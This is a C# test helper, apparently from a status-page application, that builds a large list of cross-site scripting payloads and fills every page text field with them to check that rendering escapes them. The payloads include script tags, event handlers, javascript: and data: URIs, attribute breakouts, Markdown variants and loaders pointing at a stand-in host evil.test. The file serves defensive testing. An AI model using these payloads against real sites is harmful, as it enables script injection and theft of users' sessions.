using System.Collections.Immutable;
using Candor.Pages;
using Candor.State;
using Candor.State.Incidents;
using Candor.State.Maintenances;
using Candor.State.Postmortems;

namespace Candor.Tests.Pages;

/// <summary>Strings that would run if anything let them: every one calls <c>pwned()</c> where it gets through.</summary>
internal static class XssStrings
{
    private static readonly string[] Tags =
    [
        "<script>pwned()</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>pwned()</scr</script>ipt>",
        "<img src=x onerror=pwned()>", "<img src=x onerror=\"pwned()\">", "<IMG \"\"\"><SCRIPT>pwned()</SCRIPT>\">",
        "<svg onload=pwned()>", "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>", "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:pwned()\"><text y=9>x</text></a></svg>", "<math><mtext><img src onerror=pwned()></mtext></math>",
        "<body onload=pwned()>", "<iframe src=\"javascript:pwned()\"></iframe>", "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>",
        "<object data=\"data:text/html,<script>pwned()</script>\"></object>", "<embed src=\"javascript:pwned()\">",
        "<a href=\"javascript:pwned()\">x</a>", "<a href=\"jav&#x09;ascript:pwned()\">x</a>", "<a href=\"&#106;avascript:pwned()\">x</a>",
        "<form action=\"javascript:pwned()\"><input type=submit></form>", "<input autofocus onfocus=pwned()>",
        "<select autofocus onfocus=pwned()>", "<textarea autofocus onfocus=pwned()>", "<keygen autofocus onfocus=pwned()>",
        "<video><source onerror=pwned()></video>", "<audio src=x onerror=pwned()>", "<details open ontoggle=pwned()>",
        "<marquee onstart=pwned()>", "<meta http-equiv=refresh content=\"0;url=javascript:pwned()\">", "<base href=\"//evil.test/\">",
        "<link rel=stylesheet href=\"//evil.test/x.css\">", "<style>*{background:url(//evil.test)}</style>", "<style>@import '//evil.test/x.css'</style>",
        "<template><script>pwned()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\"></noscript>",
        "<textarea></textarea><script>pwned()</script>", "<title></title><script>pwned()</script>", "<plaintext>", "<xmp><script>pwned()</script>",
        "<!--><script>pwned()</script>-->", "<![CDATA[<script>pwned()</script>]]>", "<?xml version=\"1.0\"?><script>pwned()</script>",
        "<div style=\"background:url(javascript:pwned())\">x</div>", "<div style=\"width:expression(pwned())\">x</div>",
        "<p is=x onclick=pwned()>x</p>", "<x onclick=pwned()>x</x>", "<button popovertarget=x onclick=pwned()>x</button>",
        "\u003cscript\u003epwned()\u003c/script\u003e", "＜script＞pwned()＜/script＞", "<\0script>pwned()</script>",
    ];

    private static readonly string[] Breakouts =
    [
        "\" onmouseover=\"pwned()", "' onmouseover='pwned()", "\" autofocus onfocus=pwned() x=\"", "\"><script>pwned()</script>",
        "'><script>pwned()</script>", "</title><script>pwned()</script>", "</style><script>pwned()</script>", "</script><script>pwned()</script>",
        "--><script>pwned()</script>", "]]><script>pwned()</script>", "`-pwned()-`", "${pwned()}", "{{constructor.constructor('pwned()')()}}",
        "@(pwned())", "@{pwned();}", "<%= pwned() %>", "#{pwned()}", "\\\"><script>pwned()</script>", "&lt;script&gt;pwned()&lt;/script&gt;",
        "&#60;script&#62;pwned()&#60;/script&#62;", "%3Cscript%3Epwned()%3C/script%3E", "\r\nContent-Type: text/html\r\n\r\n<script>pwned()</script>",
        "; } body { background: url(//evil.test) ", "'; pwned(); '", "\u2028pwned()\u2029",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "java\tscript:pwned()", "java\nscript:pwned()", "\u0001javascript:pwned()",
        "javascript&colon;pwned()", "javascript&#58;pwned()", "&#x6A;avascript:pwned()", "javascript://%0apwned()", "javascript:/*x*/pwned()",
        "vbscript:pwned()", "data:text/html,<script>pwned()</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
        "data:image/svg+xml,<svg onload=pwned()>", "blob:https://evil.test/x", "file:///etc/passwd", "filesystem:https://evil.test/x",
        "//evil.test/x", "\\\\evil.test\\x", "/\\evil.test", "https://status.test@evil.test/", "https:evil.test", "https://", "view-source:javascript:pwned()",
        "about:blank#pwned()", "feed:javascript:pwned()", "livescript:pwned()", "mocha:pwned()", "jar:javascript:pwned()!x",
    ];

    /// <summary>Each of them bare, and everything in the forms that Markdown gives it a chance with.</summary>
    public static ImmutableArray<string> All { get; } =
    [
        .. Tags, .. Breakouts, .. Addresses,
        .. Tags.Select(tag => $"**{tag}**"), .. Tags.Select(tag => $"- {tag}\n\n    {tag}"), .. Tags.Select(tag => $"[x]({tag})"),
        .. Addresses.Select(address => $"[x]({address})"), .. Addresses.Select(address => $"[x](<{address}>)"),
        .. Addresses.Select(address => $"![x]({address})"), .. Addresses.Select(address => $"<{address}>"),
        .. Addresses.Select(address => $"[x][y]\n\n[y]: {address}"), .. Breakouts.Select(text => $"[x](https://a.test/ \"{text}\")"),
        .. Breakouts.Select(text => $"```{text}\nx\n```"), .. Breakouts.Select(text => $"# x {{onclick={text}}}"),
        .. Breakouts.Select(text => $"| a |\n|---|\n| {text} |"),
    ];

    /// <summary>A brief with these strings in every text field that reaches a page.</summary>
    public static Brief Everywhere(IReadOnlyList<string> texts)
    {
        var (now, first) = (SampleBriefs.Now, texts[0]);
        var facts = new List<Event>
        {
            new PageConfigured(now.AddDays(-1), new(first, first, first)
            {
                Description = first, ContactUrl = first, LogoUrl = first, Accent = first, Url = first,
            }),
            new PolicyConfigured(now, Policy.Default with { Vantages = [new(first), new("dark")] }),
            new VantageChanged(now, new("dark"), VantageStatus.Blind, now, first),
        };
        for (var i = 0; i < texts.Count; i++)
        {
            var (component, incident, text) = (new ComponentId($"c{i}"), new IncidentId($"i{i}"), texts[i]);
            facts.Add(new MonitorAdded(now.AddDays(-1), SampleBriefs.Monitored(text).Monitor));
            facts.Add(new ComponentAdded(now.AddDays(-1), new(component, text, i % 3 == 2 ? new ComponentId("c0") : null, i)
            {
                Description = text, Monitors = [new(text)], Regions = [text, "elsewhere"],
            }));
            facts.Add(new ComponentStateChanged(now.AddHours(-1), component, now.AddHours(-1), new(ComponentStatus.MajorOutage), text));
            facts.Add(new IncidentOpened(now, incident, text, now, false, true, text, [new(component, ComponentStatus.MajorOutage, now)]));
            facts.AddRange(OfPeople(now, component, incident, i, text));
            facts.Add(new IncidentUpdated(now, incident, 2, i % 2 == 0 ? IncidentStatus.Resolved : null, text, true, []));
        }

        facts.AddRange(texts.Select((text, i) => new MetricDefined(now, new(new($"metric{i}"), text) { Suffix = text, Tooltip = text, Reference = text })));
        return SampleBriefs.Read(facts.DistinctBy(Key), now) with
        {
            Self = new([new(first, now)], first),
            Metrics = texts.Select(static (_, i) => new MetricId($"metric{i}"))
                .ToImmutableDictionary(static id => id, _ => new MetricValues([new(now.AddHours(-1), 1, 1)], [], [])),
        };
    }

    private static IEnumerable<Event> OfPeople(DateTimeOffset now, ComponentId component, IncidentId incident, int i, string text)
    {
        var (by, work) = (new Actor(text), new MaintenanceId($"m{i}"));
        if (i % 4 == 3)
        {
            yield return new ComponentPinned(now, component, ComponentStatus.MajorOutage, now.AddHours(1), by) { Reason = text };
        }

        yield return new UpdateEdited(now, incident, 1, text + " ", Typo: false, by);
        yield return new IncidentBackdated(now, incident, now.AddHours(-1), by);
        yield return new MaintenanceScheduled(now, work, new(text, now.AddHours(1), now.AddHours(2), [component]), text, by);
        yield return new MaintenanceUpdateEdited(now, work, 1, text + " ", Typo: true, by);
        yield return new PostmortemDrafted(now, incident, [new(text, text)], by);
        yield return new PostmortemPublished(now, incident, by);
        yield return new ActionItemSet(now, incident, new(new("a"), text, text, null), by);
        yield return new ActionItemSet(now, incident, new(new("b"), text, text, null), by);
        yield return new ActionItemDropped(now, incident, new("b"), text, by);
        if (i % 5 == 1)
        {
            yield return new MaintenanceCancelled(now, work, text, by);
        }
    }

    private static object Key(Event fact) => fact is MonitorAdded added ? added.Monitor.Id : fact;
}
